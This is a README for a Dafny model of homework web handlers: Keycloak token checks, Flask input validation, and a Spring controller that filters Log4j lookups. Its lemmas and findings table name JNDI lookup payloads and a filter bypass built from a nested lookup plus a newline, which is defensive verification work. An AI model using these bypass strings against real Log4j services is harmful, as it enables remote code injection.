# Hardened request handlers: a Dafny model

This project models the request-handling core of three small hardened web
services:

- **The Flask app protected by Keycloak (homework 8).**
  - `get_public_key` fetches the realm's signing certificates. It makes up to ten attempts and waits five seconds after each failed attempt.
  - `verify_token` decodes a bearer token with the first key, for the audience `flask-client`, under `RS256`.
  - The routes are `/public`, `/protected` and `/health`.
- **The input-validating Flask app (homework 7).**
  - The greeting route `/` accepts only an alphanumeric name.
  - `/ping` accepts a parseable IP address and then probes it.
  - `/calculate` hands a non-empty expression to a safe evaluator.
  - `/health` answers "OK".
- **The Log4j-hardened Spring controller (homework 9, fixed version).**
  - `logInput` refuses input that mentions `jndi:` in any letter case.
  - It also refuses input that matches the lookup pattern `(?i).*\$\{.*\}.*` as a whole string.
  - It echoes every other input after "Logged: ".

Services outside the code are parameters of the model:
- the identity provider's HTTP answers, as `net`, one entry per attempt;
- `jose.jwt.decode`, as `decode`;
- `ipaddress.ip_address`, as `parses`;
- `ping3.ping` with its rounding, as `probe`;
- the `asteval` interpreter, as `evaluate`.

The five-second sleeps are counted, not performed.

Java's `String.matches` is modelled by a small regular-expression language (`JavaRegex`):
- a whole-string match semantics;
- the `(?i)` flag, which folds ASCII letters only (Java does the same without `UNICODE_CASE`);
- the `.` rule, under which `.` matches no line terminator (`\n`, `\r`, U+0085, U+2028, U+2029) unless DOTALL is set.

The model follows the code in these points, where the code does something other than what its route descriptions suggest:
- **A missing key still reaches the decoder.** `verify_token` does not stop when no key was fetched. It passes `None` to `jwt.decode` (`TokenVerification.DecodeCallFor`), which then fails.
- **Only request errors are retried.** `get_public_key` catches only `RequestException`. A body that is not JSON raises a `RequestException` subclass in current `requests`, so that attempt is retried. Any other exception (a JSON body that is not an object, on which `.get` fails, say) escapes the fetch, escapes `verify_token`, whose `try` starts after the fetch, and becomes Flask's 500 page (`Crashed`, `InternalServerError`).
- **The tenth failure also sleeps.** The loop sleeps after every failed attempt, the tenth included, so exhaustion means ten sleeps and 50 seconds.
- **Empty claims are refused.** `if not claims` rejects an empty claim set as well as `None`, so a token that decodes to `{}` gets "Invalid token".
- **A blank header is a missing token.** An empty `Authorization` header counts as missing. Only the exact prefix "Bearer " (with one space) is accepted. The token is the text between the first and the second space.
- **A null input is echoed.** A `null` input to `logInput` passes both checks and comes back as "Logged: null", as Java string concatenation prints it.

Modules:
- `Wrappers` holds `Option`.
- `Text` holds the ASCII character classes, prefixes, substrings and lower-casing the handlers use.
- `Http` holds the responses: a body (text, a `jsonify` object, or the server error page) and a status code.
- `KeycloakKeys` holds `get_public_key`, together with the function `KeyFetch` and the predicate `FetchSpec` that specify it.
- `TokenVerification` holds `verify_token`.
- `JwtRoutes` holds `str.split(" ")`, the token extraction and the homework 8 routes.
- `InputValidation` holds the homework 7 routes.
- `JavaRegex` holds the regular-expression semantics.
- `LogController` holds `logInput`.

## Model

| member | source | states |
|---|---|---|
| KeycloakKeys.GetPublicKey | homework8/deliverables/flaskapp/app.py:12-25 | the retry loop returns the fetch outcome its specification demands: a key only from the first response that is OK and lists keys, nothing but failures before it, a sleep after each failure, and an escaping exception stops the loop at once |
| KeycloakKeys.KeyFetch | homework8/deliverables/flaskapp/app.py:12-25 | one whole call of `get_public_key` as a function (through the recursive `FetchFrom`, one step per loop iteration): between one and ten requests, at most 50 seconds of sleeping, and no key exactly when all ten sleeps happened |
| KeycloakKeys.KeyFetchMeetsSpec | homework8/deliverables/flaskapp/app.py:12-25 | the recursive description of the retries meets the same specification: at most ten attempts, and no key means exactly ten failed attempts and ten sleeps |
| KeycloakKeys.FetchSpecUnique | homework8/deliverables/flaskapp/app.py:14-25 | the specification fixes the outcome: result, attempt count and sleep count are determined by the providers' answers |
| KeycloakKeys.FirstUsableChosen | homework8/deliverables/flaskapp/app.py:14-20 | when attempts 1..i fail and attempt i+1 answers with keys, the first of those keys is returned after i+1 requests and i sleeps |
| KeycloakKeys.AllFailedExhausts | homework8/deliverables/flaskapp/app.py:14-25 | ten failed attempts give no key after ten requests, ten sleeps and 50 seconds of waiting |
| TokenVerification.VerifyToken | homework8/deliverables/flaskapp/app.py:27-59 | one key fetch per verification; claims come back exactly when the fetch did not raise and the full decode succeeded, and they are the decoded claims; the only error that escapes is one from the fetch |
| TokenVerification.FailuresCollapse | homework8/deliverables/flaskapp/app.py:41-59 | an expired signature, another JWT error and any other decode error all give `None` |
| JwtRoutes.Split | homework8/deliverables/flaskapp/app.py:71 | `str.split(" ")`, empty pieces kept: there is always at least one piece; `JoinSplit` and `SplitJoin` show it undoes joining on single spaces |
| JwtRoutes.JoinSplit | homework8/deliverables/flaskapp/app.py:71 | splitting on single spaces loses nothing: joining the pieces gives the header back, and no piece holds a space |
| JwtRoutes.SplitJoin | homework8/deliverables/flaskapp/app.py:71 | space-free pieces joined by single spaces split back into the same pieces |
| JwtRoutes.BearerToken | homework8/deliverables/flaskapp/app.py:71 | the token is a space-free prefix of the text after "Bearer " that ends at the end of the header or at a space |
| JwtRoutes.BearerTokenFirstWord | homework8/deliverables/flaskapp/app.py:71 | the token is the first word after "Bearer ", whether or not more words follow |
| JwtRoutes.BearerTokenExamples | homework8/deliverables/flaskapp/app.py:71 | "Bearer " carries the empty token; "Bearer a b" carries "a" |
| JwtRoutes.Protected | homework8/deliverables/flaskapp/app.py:65-76 | a header that is missing, empty or lacks "Bearer " gets "Missing token" 401 and no key request; access is granted with status 200 exactly when the fetch did not raise and the token decodes to a non-empty claim set, and the response then carries those claims; with a bearer header, an exception from the key fetch gives the 500 page and a `None` or empty claim set gives "Invalid token" 401; nothing else is answered |
| JwtRoutes.Serve | homework8/deliverables/flaskapp/app.py:61-80 | the route table of the three `@app.route` handlers: only `/protected` contacts the identity provider or refuses, and it answers 200 only to a bearer header |
| JwtRoutes.UnauthenticatedRoutesIndependent | homework8/deliverables/flaskapp/app.py:61-80 | `/public` and `/health` answer 200 with the same response whatever the header, the identity provider and the decoder do, and send no certificate request |
| InputValidation.Hello | homework7/deliverables/app.py:15-20 | no name gives "Hello, World!"; a supplied name is greeted with status 200 exactly when it is non-empty and alphanumeric, and is greeted by that name; every refusal is the same 400 error |
| InputValidation.HelloReflectsNoMarkup | homework7/deliverables/app.py:16-20 | a greeting that is sent contains only letters, digits, space, comma and `!` |
| InputValidation.PingHost | homework7/deliverables/app.py:31-51 | a missing or empty address is refused first; an address that does not parse is refused next; only a parsed address is probed, and the probe's answer decides the response; a 400 is always one of the two refusals |
| InputValidation.PingRefusalIgnoresProbe | homework7/deliverables/app.py:36-42 | a refused address gets status 400 and the same response whatever the probe would do |
| InputValidation.IsValidIpAgreesWithPing | homework7/deliverables/app.py:23-42 | `is_valid_ip` holds for a non-empty address exactly when `ping_host` does not refuse it as invalid |
| InputValidation.Calculate | homework7/deliverables/app.py:55-66 | a missing or empty expression is refused before evaluation; 200 exactly when the evaluator produces a value, returned as "result"; a ValueError or SyntaxError gives "Invalid expression." 400; any other exception gives the 500 page; no other status occurs |
| Text.ToLowerAscii | homework9/Fixed/web/src/main/java/com/example/LogController.java:15 | `toLowerCase` on one character: no capital letter is left, letters stay letters, and every other character is kept |
| Text.LowerAscii | homework9/Fixed/web/src/main/java/com/example/LogController.java:15 | `toLowerCase` on a string: same length, no capital letter left |
| Text.LowerAsciiKeepsLowerCase | homework9/Fixed/web/src/main/java/com/example/LogController.java:15 | a string without capital letters is its own lower-case form, so lower-casing twice changes nothing more |
| JavaRegex.RepeatAnyChar | homework9/Fixed/web/src/main/java/com/example/LogController.java:21 | `.*` matches a whole string exactly when `.` matches each of its characters |
| JavaRegex.DotsAroundLiteral | homework9/Fixed/web/src/main/java/com/example/LogController.java:21 | `.*p.*` for a non-letter `p` matches exactly the strings made of `.`-characters that contain `p` |
| LogController.LookupPatternMatches | homework9/Fixed/web/src/main/java/com/example/LogController.java:21 | the lookup pattern matches a whole string exactly when `.` matches every character and a `${` is followed later by `}`, under either case flag |
| LogController.LogInput | homework9/Fixed/web/src/main/java/com/example/LogController.java:12-41 | the answer is either the refusal or "Logged: " followed by the input, and `null` is echoed as "Logged: null" |
| LogController.LogInputDecided | homework9/Fixed/web/src/main/java/com/example/LogController.java:15-24 | an input is refused exactly when it mentions `jndi:` in any case, or holds a `${` with a later `}` and no line terminator; everything else is echoed |
| LogController.MentionNeedsJn | homework9/Fixed/web/src/main/java/com/example/LogController.java:15 | mentioning `jndi:` needs a `j` or `J` directly followed by an `n` or `N` |
| LogController.JndiCaseVariantsBlocked | homework9/Fixed/web/src/main/java/com/example/LogController.java:15-18 | "JNDI:x" and "${JnDi:ldap://h/a}" are refused |
| LogController.UnclosedLookupLogged | homework9/Fixed/web/src/main/java/com/example/LogController.java:21-40 | "${abc", never closed, is echoed |
| LogController.LookupWithNewlineLogged | homework9/Fixed/web/src/main/java/com/example/LogController.java:21-40 | "${abc}" followed by a newline is echoed, because `.` does not match the newline |
| LogController.NestedLookupWithNewlineBypasses | homework9/Fixed/web/src/main/java/com/example/LogController.java:21 | the nested lookup "${${lower:j}ndi:ldap://h/a}" followed by a newline is echoed by the filter as written and refused by the `(?is)` filter |
| LogController.LogInputDotAll | homework9/Fixed/web/src/main/java/com/example/LogController.java:12-41 | with `(?is)` the answer is still the refusal or the echo, and `null` is still echoed |
| LogController.LogInputDotAllBlocksEveryLookup | homework9/Fixed/web/src/main/java/com/example/LogController.java:21 | with `(?is)` an input is refused exactly when it mentions `jndi:`, or when a `${` is followed later by `}`, line terminators or not |

Three handlers have no row because they take no input: `public()`
(`JwtRoutes.Public`), and `health()` of both apps (`Http.Health`), which is
shared. The homework 8 pair is covered by
`JwtRoutes.UnauthenticatedRoutesIndependent`.

## Left out

- Flask and Spring plumbing is not modelled: the route table of homework 8 is `JwtRoutes.Serve`, but the dispatch of the homework 7 and Spring routes, query-string and header parsing, `jsonify` serialisation, and the server start-up at the end of both Flask files. A handler receives its parameter as an `Option<string>`.
- `requests.get` is modelled only as an outcome per attempt: a `RequestException`, a response that is not OK, a JSON body whose `keys` is absent or a list, or another exception. A `keys` value that is a non-empty non-list is not modelled. The key URL of line 13 and the request timeout are not modelled either.
- `time.sleep` is counted, not performed.
- No `print` or logger call is modelled, and neither is `strftime`. This includes logger selection and backend reporting in `logInput` (LogController.java:16, 22 and 27-38).
- The expired-token branch of `verify_token` (app.py:43-50) inspects the unverified claims only in order to print them, and catches every error it raises. It does not influence the result, so it is left out.
- Signature, audience and expiry checking inside `jose.jwt.decode` are the oracle `decode`, which sees the token, the key, the algorithm list and the audience.
- `ipaddress.ip_address`, `ping3.ping` and `asteval` are oracles.
  - The rounding `round(result * 1000, 2)` is floating-point arithmetic and belongs to `probe`, so does a `False` return of `ping`.
  - Which expressions `asteval` accepts belongs to `evaluate`.
- `APP_PASSWORD` (homework 7 app.py:9-12) is start-up configuration that no handler reads; the model does not include it.
- InputValidation.Hello: `str.isalnum` is modelled on ASCII letters and digits only, so non-ASCII letters and digits that Python accepts are refused in the model.
- LogController.LogInput: `toLowerCase` is modelled on ASCII letters only, without Java's other Unicode case mappings, and assumes a default locale other than Turkish or Azerbaijani; under those locales `"JNDI:x".toLowerCase()` is `"jndı:x"` (dotless ı), line 15 lets it through, and `JndiCaseVariantsBlocked` does not describe the source. In any other locale, ASCII folding gives the same answer as Java's full `toLowerCase` on `jndi:`.
- Java strings are modelled as sequences of characters, not of UTF-16 code units.
- `Application.java` and the unpatched controller outside `Fixed/` are not part of this model.
- InputValidation.Calculate: `jsonify` is not modelled, so a result it cannot serialise (a complex number from `1j`, a set) gets 200 in the model, while the source raises a TypeError inside the `try` that the `except` at app.py:65 does not catch, and answers 500.
- Under Spring, `@RequestParam` is required, so a `null` input does not reach `logInput`. The model still covers the `null` case that the method itself handles.

## Findings

| source | as written | input that shows it | evidently intended | confidence | as-written member | corrected member |
|---|---|---|---|---|---|---|
| homework9/Fixed/web/src/main/java/com/example/LogController.java:21 | `(?i).*\$\{.*\}.*` without DOTALL: `.` stops at line terminators, so any lookup followed (or preceded) by a newline fails to match; the nested lookup also hides `jndi:` from the first check | `${${lower:j}ndi:ldap://h/a}` followed by `\n` is logged | refuse every `${...}` lookup, e.g. by compiling the pattern with `(?is)` | medium; not executed | LogController.NestedLookupWithNewlineBypasses | LogController.LogInputDotAllBlocksEveryLookup |
